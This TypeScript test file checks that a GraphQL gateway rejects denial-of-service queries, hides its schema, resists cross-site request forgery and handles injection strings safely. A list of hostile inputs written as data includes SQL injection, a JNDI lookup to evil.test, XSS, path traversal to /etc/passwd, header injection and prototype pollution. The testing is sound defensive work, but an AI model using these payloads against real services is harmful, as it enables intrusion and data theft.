/**
 * GraphQL as others have been attacked through it: documents that cost more to answer than to send, schemas that are read out,
 * pages that ask with somebody's cookie, and text that means something elsewhere.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { ACCESS_COOKIE } from '../../src/exchange/exchange.ts'
import { ask } from '../support/attack.ts'
import { bearer, login, postJson, SERVICE_ROUTES, startGateway, type TestGateway, type Tokens } from '../support/gateway.ts'

let gateway: TestGateway
let user: Tokens

beforeAll(async () => {
  gateway = await startGateway(`
tenants: { default: { signing: ES256, throttle: { usernames: 900/s } } }
routes:${SERVICE_ROUTES}
  - { name: graphql, match: { path: /graphql }, service: graphql }`)
  user = await login(gateway.url)
})
afterAll(() => gateway.close())

async function send(query: string, variables: unknown = {}) {
  const answer = await postJson(`${gateway.url}/graphql`, { query, variables })
  const text = await answer.text()
  return {
    status: answer.status,
    text,
    body: JSON.parse(text) as { data?: unknown; errors?: { extensions: { code: string } }[]; error?: string },
  }
}

function times(count: number, make: (index: number) => string): string {
  return Array.from({ length: count }, (_, index) => make(index)).join(' ')
}

const SIZES: readonly (readonly [string, string])[] = [
  [
    'a thousand aliases of a check, hardly more of which fit',
    `{${times(1_000, (i) => `a${i}:checkUsernameAvailability(username:"abc"){available}`)}}`,
  ],
  [
    'a thousand aliases in fragments',
    `{ ${times(10, (i) => `...f${i}`)} } ${times(10, (i) => `fragment f${i} on Query { ${times(100, (j) => `a${i}_${j}: me { id }`)} }`)}`,
  ],
  ['a thousand levels', `{ me ${'{ me '.repeat(1_000)}${'}'.repeat(1_000)} }`],
  [
    'a list of a thousand levels',
    `{ checkUsernameAvailability(username: ${'['.repeat(1_000)}${']'.repeat(1_000)}) { available } }`,
  ],
  ['a thousand directives', `{ me { id ${'@include(if: true) '.repeat(1_000)} } }`],
  ['sixty directives of one name', `{ me { id ${'@skip(if: false) '.repeat(60)} } }`],
  ['a fragment of itself', '{ me { ...a } } fragment a on User { id ...a }'],
  [
    'fragments in a circle',
    '{ me { ...a } } fragment a on User { ...b } fragment b on User { ...c } fragment c on User { ...a }',
  ],
  [
    'fragments that double each other',
    `{ me { ...f0 } } ${times(19, (i) => `fragment f${i} on User { ...f${i + 1} ...f${i + 1} }`)} fragment f19 on User { id }`,
  ],
  ['a thousand operations', times(200, (i) => `query q${i} { me { id } }`)],
  ['fields that might be in conflict', `{ me { ${'id '.repeat(900)} } }`],
  ['comments', `{ ${'#\n'.repeat(5_000)} me { id } }`],
  ['a number without end', `{ checkUsernameAvailability(username: 1${'0'.repeat(50_000)}) { available } }`],
  ['a text without end', `{ checkUsernameAvailability(username: "${'x'.repeat(50_000)}") { available } }`],
]

describe('a document that costs more than it says', () => {
  it.each(SIZES)('%s is answered at once', async (name, query) => {
    const { status, text, body } = await send(query)
    // The last one is a fair question, about a name that nobody can have.
    expect(status).toBe(name === 'a text without end' ? 200 : 400)
    if (status === 400) expect(body).not.toHaveProperty('data')
    expect(text.length).toBeLessThan(60_000)
    expect((await send('{ me { id } }')).body).toEqual({ data: { me: null } })
  })

  it('10 MB are refused before they are read', async () => {
    const query = `{ ${'a'.repeat(10 * 1024 * 1024)} }`
    const answer = await postJson(`${gateway.url}/graphql`, { query }).catch(() => undefined)
    // Whoever goes on sending may meet a closed connection instead of the answer.
    if (answer !== undefined) expect(answer.status).toBe(413)
    expect((await send('{ me { id } }')).status).toBe(200)
  })

  it.each([
    ['a batch', [{ query: '{ me { id } }' }, { query: '{ me { id } }' }]],
    ['a batch of a thousand', Array.from({ length: 1_000 }, () => ({ query: '{me{id}}' }))],
    ['a persisted query', { extensions: { persistedQuery: { version: 1, sha256Hash: 'x' } } }],
  ])('%s is none', async (_, body) => {
    const answer = await postJson(`${gateway.url}/graphql`, body)
    expect([answer.status, ((await answer.json()) as { error: string }).error]).toEqual([400, 'invalid_request'])
  })
})

describe('the schema', () => {
  it.each([
    '{ __schema { types { name } } }',
    '{ __type(name: "User") { name } }',
    'query IntrospectionQuery { __schema { queryType { name } } }',
    '{ ...f } fragment f on Query { __schema { types { name } } }',
    '{ a: __schema { types { name } } }',
    '{\n__schema\n{types{name}}}',
    'mutation { __schema { types { name } } }',
  ])('is not told by %s', async (query) => {
    const { status, text } = await send(query)
    expect([status, /UpdateProfileInput|holdTicket/.test(text)]).toEqual([400, false])
  })

  it('is not told by guesses that come near', async () => {
    for (const query of [
      '{ m { id } }',
      '{ me { displayNam } }',
      'mutation { updateProfil(input: {}) { id } }',
      '{ checkUsername(username: "a") { available } }',
    ]) {
      const { text } = await send(query)
      expect(text).not.toMatch(/did you mean|displayName"|updateProfile"|checkUsernameAvailability/i)
    }
  })
})

const STRINGS = [
  "' OR 1=1 --",
  "'; DROP TABLE accounts; --",
  '" } } { __schema { types { name } } }',
  '${jndi:ldap://evil.test/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '../../etc/passwd',
  'a\u0000b',
  '\u0000'.repeat(10),
  '\u202etxt.exe',
  '\ufeffadmin',
  'аdmin',
  'a'.repeat(10_000),
  '\r\nSet-Cookie: a=b',
  '__proto__',
  'constructor',
]

describe('text that means something elsewhere', () => {
  it.each(STRINGS)('«%s» is a name that nobody can have, or one like any other', async (name) => {
    const query = 'query ($name: String!) { checkUsernameAvailability(username: $name) { available reason } }'
    const { status, body } = await send(query, { name })
    expect(status).toBe(200)
    const { available, reason } = (body.data as { checkUsernameAvailability: { available: boolean; reason: string | null } })
      .checkUsernameAvailability
    if (/^[a-z_]{3,30}$/i.test(name)) expect(typeof available).toBe('boolean')
    else expect([available, reason]).toEqual([false, 'invalid'])
  })

  it.each(['\u0000', '{\u0000}', '{ me { id\u0000 } }', '\ufeff', '"""', '{ me { id } } \\u0000', '\ud7ff'])(
    'a document of it is refused: %j',
    async (query) => {
      expect((await send(query)).status).toBe(400)
    },
  )

  it('variables that are objects reach nobody', async () => {
    const query = 'query ($name: String!) { checkUsernameAvailability(username: $name) { available } }'
    for (const name of [{ $ne: '' }, ['a'], 7, true, null]) {
      const { status, body } = await send(query, { name })
      expect([status, body.errors?.[0]?.extensions.code]).toEqual([400, 'BAD_USER_INPUT'])
    }
    const proto = await ask(gateway.port, {
      method: 'POST',
      target: '/graphql',
      lines: ['Content-Type: application/json'],
      body: '{"query":"{ me { id } }","variables":{"__proto__":{"admin":true}}}',
    })
    expect(proto.status).toBe(400)
  })
})

describe('a page of somebody else', () => {
  const mutation = JSON.stringify({ query: 'mutation { updateProfile(input: { displayName: "theirs" }) { id } }' })

  it.each([
    ['a form of text', 'text/plain', mutation],
    [
      'a form',
      'application/x-www-form-urlencoded',
      `query=${encodeURIComponent('mutation { updateProfile(input: { displayName: "theirs" }) { id } }')}`,
    ],
    [
      'a form of parts',
      'multipart/form-data; boundary=x',
      `--x\r\nContent-Disposition: form-data; name="operations"\r\n\r\n${mutation}\r\n--x--`,
    ],
    ['no type', '', mutation],
    ['a type that begins like ours', 'application/jsonp', mutation],
    ['GraphQL itself', 'application/graphql', 'mutation { updateProfile(input: { displayName: "theirs" }) { id } }'],
  ])('changes nothing by %s', async (_, type, body) => {
    const lines = [`Cookie: ${ACCESS_COOKIE}=${user.access_token}`, 'Origin: https://evil.test', 'Sec-Fetch-Site: cross-site']
    const foreign = await ask(gateway.port, {
      method: 'POST',
      target: '/graphql',
      lines: [...lines, ...(type === '' ? [] : [`Content-Type: ${type}`])],
      body,
    })
    expect([foreign.status, foreign.json()['error']]).toEqual([403, 'access_denied'])
    // Without the cookie it is nobody's request, and of a type that is not taken.
    const anonymous = await ask(gateway.port, {
      method: 'POST',
      target: '/graphql',
      lines: type === '' ? [] : [`Content-Type: ${type}`],
      body,
    })
    expect(anonymous.status).toBe(415)
    const me = await postJson(`${gateway.url}/graphql`, { query: '{ me { displayName } }' }, bearer(user.access_token))
    expect(await me.json()).toEqual({ data: { me: { displayName: null } } })
  })

  it('changes nothing by a link', async () => {
    const query = encodeURIComponent('mutation { updateProfile(input: { displayName: "theirs" }) { id } }')
    const answer = await ask(gateway.port, {
      method: 'GET',
      target: `/graphql?query=${query}`,
      lines: [`Cookie: ${ACCESS_COOKIE}=${user.access_token}`],
    })
    expect(answer.status).toBe(405)
  })
})
